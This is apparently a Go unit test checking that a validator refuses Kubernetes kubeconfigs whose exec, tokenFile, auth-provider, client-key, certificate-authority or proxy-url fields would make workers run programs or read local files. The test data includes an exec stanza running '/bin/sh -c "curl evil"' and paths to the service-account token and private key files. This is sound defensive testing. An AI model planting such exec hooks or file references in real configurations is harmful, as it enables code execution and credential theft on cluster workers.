package marketplace

import (
	"strings"
	"testing"
)

// A registered kubeconfig that would make every worker run a program, read one of its own files or
// proxy elsewhere is refused, naming the field; one with inline credentials is accepted.
func TestRegisteredKubeconfigIsSelfContained(t *testing.T) {
	const head = `apiVersion: v1
kind: Config
current-context: c
contexts: [{name: c, context: {cluster: k, user: u}}]
`
	inline := head + `clusters: [{name: k, cluster: {server: "https://k.example:6443", certificate-authority-data: Y2E=}}]
users: [{name: u, user: {token: abc}}]
`
	in := TargetInput{Kind: TypeK8s, Name: "east", Kubeconfig: []byte(inline)}
	if server, err := in.Validate(); err != nil || server != "https://k.example:6443" {
		t.Fatalf("an inline kubeconfig: %q %v", server, err)
	}
	for field, kc := range map[string]string{
		"exec": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443"}}]
users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, "curl evil"]}}}]
`,
		"tokenFile": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443"}}]
users: [{name: u, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
`,
		"auth-provider": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443"}}]
users: [{name: u, user: {auth-provider: {name: oidc}}}]
`,
		"client-key": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443"}}]
users: [{name: u, user: {client-certificate-data: Y2E=, client-key: /etc/marketplace/key.pem}}]
`,
		"certificate-authority": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443", certificate-authority: /etc/ssl/private/x}}]
users: [{name: u, user: {token: abc}}]
`,
		"proxy-url": head + `clusters: [{name: k, cluster: {server: "https://k.example:6443", proxy-url: "http://10.0.0.9:3128"}}]
users: [{name: u, user: {token: abc}}]
`,
	} {
		in := TargetInput{Kind: TypeK8s, Name: "east", Kubeconfig: []byte(kc)}
		_, err := in.Validate()
		if ErrorCode(err) != EINVALID || !strings.Contains(ErrorMessage(err), field) {
			t.Errorf("a kubeconfig with %s: %v, want it refused naming the field", field, err)
		}
	}
}
